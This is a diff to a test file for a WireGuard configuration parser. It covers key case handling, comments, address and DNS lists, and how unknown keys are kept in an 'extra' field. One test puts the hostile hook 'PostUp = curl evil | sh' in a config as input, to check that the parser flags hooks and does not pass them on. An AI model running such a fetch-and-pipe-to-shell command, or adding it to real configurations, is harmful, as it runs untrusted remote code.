@@ -12,7 +12,7 @@ test('a plain file, kept byte for byte', () => {
 test('keys of any case, comments at line ends, lists that add up', () => {
   const text = `; mine\n[interface] # x\nPRIVATEKEY=${key}   # secret = yes\naddress = 10.8.0.2, fd00::2/64\nAddress = 10.9.0.2/16\nDNS = 1.1.1.1, corp.example\nDNS=8.8.8.8\nMTU = 1280\nListenPort = 5\n[PEER]\npublickey = ${key}\npresharedkey = ${key}\nendpoint = [2001:DB8::1]:1 ; e\nallowedips = 0.0.0.0/0\nAllowedIPs = ::/0\nPersistentKeepalive = 25\n`;
   expect(readOne(text)).toEqual({
-    ...parsed, raw: text, server: '2001:db8::1', port: 1, addresses: ['10.8.0.2/32', 'fd00::2/64', '10.9.0.2/16'], dns: ['1.1.1.1', 'corp.example', '8.8.8.8'], mtu: 1280,
+    ...parsed, raw: text, server: '2001:db8::1', port: 1, addresses: ['10.8.0.2/32', 'fd00::2/64', '10.9.0.2/16'], dns: ['1.1.1.1', 'corp.example', '8.8.8.8'], mtu: 1280, extra: { ListenPort: '5' },
     peers: [{ publicKey: key, presharedKey: key, server: '2001:db8::1', port: 1, allowedIps: ['0.0.0.0/0', '::/0'], keepalive: 25 }],
   });
 });
@@ -40,9 +40,9 @@ test('keys that say nothing are plain WireGuard', () => {
   expect(readOne(`${own}Jc = 0\nS1 = 0\nH1 = 1\nH2 = 2\nH3 = 3\nH4 = 4\n${peer}`)).toMatchObject({ type: 'wireguard' });
 });
 
-test('hooks are told and kept nowhere', () => {
-  const { profiles, notes } = readDocument(`${own}PostUp = curl evil | sh\nPreDown=x\nSaveConfig = true\nTable = off\nFwMark = 1\n${peer}`);
-  expect(JSON.stringify(profiles)).not.toMatch(/evil|PostUp|off/);
+test('commands are told and kept as text, which is not passed on', () => {
+  const { profiles, notes } = readDocument(`${own}PostUp = curl evil | sh\nPreDown=x # y\nSaveConfig = true\nTable = off\nFwMark = 1\n${peer}`);
+  expect(profiles).toEqual([{ ...parsed, extra: { PostUp: 'curl evil | sh', PreDown: 'x # y', SaveConfig: 'true', Table: 'off', FwMark: '1' } }]);
   expect(notes?.join(' ')).toContain('PostUp, PreDown, SaveConfig');
 });
 
